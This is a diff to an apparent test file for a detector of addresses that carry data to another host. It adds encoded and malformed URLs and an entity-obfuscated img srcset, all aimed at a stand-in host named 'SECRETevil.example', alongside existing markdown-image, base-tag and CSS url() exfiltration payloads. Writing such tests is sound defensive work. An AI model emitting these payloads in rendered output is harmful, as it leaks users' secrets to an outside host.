@@ -144,7 +144,9 @@ describe('an address that carries data to another host', () => {
       '[https://evil.example?]x',
       'https://evil.example?\u00a0x',
       'https://evil.example?\u200b\u200c\u200b',
+      'www.".evil.example]',
       'https://evil.example?~_~__',
+      'https://evil.example?;.,:;:',
       '<https://evil.example?x>',
       'https://good.example(.evil.example/x',
       'https://good.example".evil.example/x',
@@ -184,6 +186,7 @@ describe('an address that carries data to another host', () => {
       '[b]: <//SECRETevil.example>\n\n![b]',
       '<img/src=https://SECRETevil.example>',
       '<base href="https://SECRETevil.example">',
+      '<img srcset="/a.png 1x,&#104;ttps&colon;&sol;&sol;SECRETevil&period;example&sol;x 2x">',
       '<p style="background: url(//SECRETevil.example)">',
       '![](https:SECRETevil.example)',
     ])
